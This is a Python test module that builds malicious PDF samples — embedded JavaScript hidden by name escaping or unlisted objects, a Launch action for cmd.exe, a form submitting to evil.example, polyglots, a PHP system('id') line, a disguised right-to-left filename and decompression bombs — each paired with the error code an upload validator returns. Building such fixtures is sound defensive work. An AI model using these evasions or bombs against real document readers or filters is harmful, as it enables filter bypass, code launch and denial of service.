"""Malicious PDFs, with the error code that each must get."""

from io import BytesIO

from pypdf import PdfWriter

from tests.support.samples.valid_files import (
    CATALOG,
    ONE_PAGE,
    PAGE,
    odf,
    ooxml,
    package,
    packed_pdf,
    pdf,
    picture,
    raw_pdf,
    stream,
)

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def opening(action):
    """Return a PDF with an action on opening."""
    return raw_pdf({1: CATALOG[:-2] + b"/OpenAction 4 0 R>>", 2: ONE_PAGE, 3: PAGE, 4: action})


def noting(annotation, *more):
    """Return a PDF with an annotation."""
    bodies = dict(enumerate((annotation, *more), 4))
    return raw_pdf({1: CATALOG, 2: ONE_PAGE, 3: PAGE[:-2] + b"/Annots[4 0 R]>>", **bodies})


def in_catalog(keys, *more):
    """Return a PDF with extra keys in its catalog."""
    return raw_pdf({1: CATALOG[:-2] + keys + b">>", 2: ONE_PAGE, 3: PAGE, **dict(enumerate(more, 4))})


def protected(**passwords):
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt(**passwords, algorithm="RC4-128")
    made = BytesIO()
    writer.write(made)
    return made.getvalue()


def unreadably_protected():
    """Return a PDF encrypted with an unknown security handler."""
    return raw_pdf({1: CATALOG, 2: ONE_PAGE, 3: PAGE}, b"/Encrypt<</Filter/Unknown/V 9>>")


def cut_loose():
    """Return a PDF with a script that the xref table does not list, for readers that scan for objects."""
    made = pdf()
    at = made.rindex(b"\nxref") + 1
    return made[:at] + b"99 0 obj\n" + SCRIPT + b"\nendobj\n" + made[at:]


def hidden_from_the_table():
    """Return a PDF with a script in an object stream that no xref table lists."""
    data = b"8 0 " + SCRIPT
    return raw_pdf({1: CATALOG, 2: ONE_PAGE, 3: PAGE, 9: stream(data, b"/Type/ObjStm/N 1/First 4")})


def archive_at_the_end():
    """Return a PDF that is also a ZIP, whose comment ends like a PDF."""
    made = bytearray(package({"a.js": b"alert(1)"}))
    made[-2:] = (6).to_bytes(2, "little")
    return raw_pdf({1: CATALOG, 2: ONE_PAGE, 3: PAGE}) + bytes(made) + b"%%EOF\n"


def laughing_pages(levels=9, each=10):
    """Return a PDF whose page tree repeats each level ten times in the one above."""
    bodies = {1: CATALOG}
    for level in range(levels):
        kids = b" ".join([b"%d 0 R" % (level + 3)] * each)
        bodies[level + 2] = b"<</Type/Pages/Count 9/Kids[%s]>>" % kids
    bodies[levels + 2] = PAGE
    return raw_pdf(bodies)


def pages_in_a_circle():
    return raw_pdf({1: CATALOG, 2: ONE_PAGE, 3: b"<</Type/Pages/Kids[2 0 R]/Parent 2 0 R>>"})


def deep():
    return raw_pdf({1: CATALOG[:-2] + b"/Deep " + b"[" * 60_000 + b"]" * 60_000 + b">>", 2: ONE_PAGE, 3: PAGE})


def undefined_pages():
    """Return a PDF with references to missing pages, each of which makes readers search the whole file."""
    kids = b" ".join(b"%d 0 R" % number for number in range(10, 4000))
    padding = b"%" + b"a" * 3_000_000 + b"\n"
    made = raw_pdf({1: CATALOG, 2: b"<</Type/Pages/Count 1/Kids[%s]>>" % kids, 3: PAGE})
    return made.replace(b"\n", b"\n" + padding, 1).replace(b"startxref\n", b"startxref\n9")


def vast_table():
    made = raw_pdf({1: CATALOG, 2: ONE_PAGE, 3: PAGE})
    return made.replace(b"xref\n0 4", b"xref\n0 999999999")


def swelling_container():
    bodies = {1: CATALOG, 2: ONE_PAGE, 3: PAGE}
    return packed_pdf(bodies, data=bytes(40_000_000))


def swelling_table():
    return packed_pdf({1: CATALOG, 2: ONE_PAGE, 3: PAGE}, table=bytes(40_000_000))


def many_containers():
    """Return a PDF with object streams that exceed the limit only together."""
    bomb = stream(b"\n" * 15_000_000, b"/Type/ObjStm/N 0/First 0")
    return raw_pdf({1: CATALOG, 2: ONE_PAGE, 3: PAGE, **dict.fromkeys(range(4, 10), bomb)})


def wordy_container():
    """Return a PDF with a small object stream that takes minutes to parse."""
    return packed(*[b"[" + b"1 " * 90_000 + b"]"] * 50)


def strangely_packed():
    body = b"<</Type/ObjStm/N 1/First 4/Filter/Strange/Length 3>>stream\nabc\nendstream"
    return raw_pdf({1: CATALOG, 2: ONE_PAGE, 3: PAGE, 4: body})


def packed(*bodies):
    """Return a PDF with all objects in an object stream."""
    return packed_pdf({1: CATALOG, 2: ONE_PAGE, 3: PAGE, **dict(enumerate(bodies, 4))})


# {description: (error code, file name, function that creates the file)}
REFUSED = {
    # other types
    "nothing": ("empty", "a.pdf", lambda: b""),
    "program called a PDF": ("not_document", "a.pdf", lambda: b"MZ\x90\x00" + bytes(100)),
    "program of Linux": ("not_document", "a.pdf", lambda: b"\x7fELF\x02\x01\x01" + bytes(100)),
    "script": ("not_document", "a.pdf", lambda: b"#!/usr/bin/env python3\n"),
    "script of PHP": ("not_document", "a.pdf", lambda: b"<?php system('id');"),
    "web page called a PDF": ("not_document", "a.pdf", lambda: b"<html><script>alert(1)</script>"),
    "SVG called a PDF": ("not_document", "a.pdf", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>'),
    "text": ("not_document", "a.txt", lambda: b"Plain words"),
    "text that virus scanners know": ("not_document", "a.pdf", lambda: EICAR),
    "picture called a PDF": ("not_document", "a.pdf", lambda: picture("PNG")),
    "picture with a PDF behind it": ("not_document", "a.pdf", lambda: picture("JPEG")[:300] + pdf()),
    "archive of another kind": ("not_document", "a.pdf", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(100)),
    "packed file": ("not_document", "a.pdf", lambda: b"\x1f\x8b\x08" + bytes(100)),
    "noise": ("unknown", "a.pdf", lambda: bytes(range(128, 256)) * 3 + bytes(9)),
    "PDF called DOCX": ("mislabelled", "a.docx", pdf),
    "PDF called a program": ("mislabelled", "a.pdf.exe", pdf),
    "PDF called a program, turned round": ("mislabelled", "a\u202efdp.exe", pdf),
    "PDF called a web page": ("mislabelled", "a.html", pdf),
    # polyglots and trailing data
    "PDF behind other bytes": ("before", "a.pdf", lambda: b"\x00\x01\x02\xff" + pdf()),
    "PDF behind words": ("before", "a.pdf", lambda: b"Dear reader\n" + pdf()),
    "PDF with a web page behind it": ("after", "a.pdf", lambda: pdf() + b"<script>alert(1)</script>"),
    "PDF with a ZIP behind it": ("hides", "a.pdf", lambda: pdf() + package({"a.js": b"alert(1)"})),
    "PDF with a DOCX behind it": ("hides", "a.pdf", lambda: pdf() + ooxml("DOCX")),
    "PDF with an ODT behind it": ("hides", "a.pdf", lambda: pdf() + odf("ODT")),
    "PDF with a ZIP that ends like a PDF": ("hides", "a.pdf", archive_at_the_end),
    # scripts, submissions and embedded files
    "script on opening": ("javascript", "a.pdf", lambda: opening(SCRIPT)),
    "script under a name in figures": ("javascript", "a.pdf", lambda: (
        opening(SCRIPT.replace(b"/JavaS", b"/J#61va#53")))),
    "script by reference": ("javascript", "a.pdf", lambda: in_catalog(
        b"/OpenAction<</S 4 0 R/JS(1)>>", b"/JavaScript")),
    "script in the tree of names": ("javascript", "a.pdf", lambda: in_catalog(
        b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", SCRIPT)),
    "script behind a comment": ("javascript", "a.pdf", lambda: opening(SCRIPT.replace(b"/S/", b"/S%(\n/"))),
    "script in an object stream": ("javascript", "a.pdf", lambda: packed(SCRIPT)),
    "script that no table lists": ("javascript", "a.pdf", cut_loose),
    "script in a stream that no table lists": ("javascript", "a.pdf", hidden_from_the_table),
    "script at the seam of two readings": ("javascript", "a.pdf", lambda: raw_pdf(
        {1: CATALOG, 2: ONE_PAGE, 3: PAGE, 4: b"%" + b"a" * (1024 * 1024 - 240) + b"\n" + SCRIPT})),
    "program that is started": ("launches", "a.pdf", lambda: opening(b"<</S/Launch/F(cmd.exe)>>")),
    "program in an object stream": ("launches", "a.pdf", lambda: packed(b"<</S/#4caunch/F(cmd.exe)>>")),
    "file in the tree of names": ("attachments", "a.pdf", lambda: pdf(
        change=lambda writer: writer.add_attachment("a.exe", b"MZ"))),
    "file on a page": ("attachments", "a.pdf", lambda: noting(b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]>>")),
    "file that is associated": ("attachments", "a.pdf", lambda: in_catalog(
        b"/AF[<</Type/Filespec/F(a)/EF <</F 4 0 R>>>>]", stream(b"MZ"))),
    "jump into a file within": ("attachments", "a.pdf", lambda: opening(b"<</S/GoToE/T<</R/C>>>>")),
    "film": ("media", "a.pdf", lambda: noting(b"<</Type/Annot/Subtype/RichMedia/RichMediaContent 5 0 R>>", b"<<>>")),
    "film of another kind": ("media", "a.pdf", lambda: (
        noting(b"<</Type/Annot/Subtype/Screen/A<</S/Rendition/OP 0>>>>"))),
    "sound": ("media", "a.pdf", lambda: opening(b"<</S/Sound/Sound 5 0 R>>")),
    "3D": ("media", "a.pdf", lambda: (
        noting(b"<</Type/Annot/Subtype /3D/3DD 5 0 R>>", stream(b"a", b"/Type/3D/Subtype/U3D")))),
    "form of the XFA kind": ("xfa", "a.pdf", lambda: in_catalog(b"/AcroForm<</Fields[]/XFA 4 0 R>>", stream(b"<a/>"))),
    "form that sends": ("sends", "a.pdf", lambda: opening(b"<</S/SubmitForm/F(https://evil.example)>>")),
    "form that reads a file": ("sends", "a.pdf", lambda: opening(b"<</S/ImportData/F(a.fdf)>>")),
    "password": ("protected", "a.pdf", lambda: protected(user_password="secret")),
    "password of the owner alone": ("protected", "a.pdf", lambda: protected(user_password="", owner_password="secret")),
    "protection that no one knows": ("protected", "a.pdf", unreadably_protected),
    # unreadable or too slow to read
    "PDF without pages": ("no_pages", "a.pdf", lambda: pdf(pages=0)),
    "PDF cut short": ("damaged", "a.pdf", lambda: pdf()[:-200]),
    "PDF of its first line": ("damaged", "a.pdf", lambda: b"%PDF-1.7\n"),
    "PDF of two lines": ("damaged", "a.pdf", lambda: b"%PDF-1.7\n%%EOF"),
    "PDF of noise": ("damaged", "a.pdf", lambda: b"%PDF-1.4\n" + bytes(range(256)) * 20 + b"\nstartxref\n9\n%%EOF"),
    "pages in a circle": ("damaged", "a.pdf", pages_in_a_circle),
    "pages that multiply": ("bomb", "a.pdf", laughing_pages),
    "60,000 levels": ("damaged", "a.pdf", deep),
    "pages that are not there": ("bomb", "a.pdf", undefined_pages),
    "table of a thousand million": ("bomb", "a.pdf", vast_table),
    "table that swells": ("damaged", "a.pdf", swelling_table),
    "object stream that swells": ("bomb", "a.pdf", swelling_container),
    "object stream of millions of words": ("bomb", "a.pdf", wordy_container),
    "object streams that swell together": ("bomb", "a.pdf", many_containers),
    "object stream packed in a strange way": ("damaged", "a.pdf", strangely_packed),
    "object stream that does not say so": ("damaged", "a.pdf", lambda: packed_pdf(
        {1: CATALOG, 2: ONE_PAGE, 3: PAGE}, kind=b"/Other")),
}  # fmt: skip
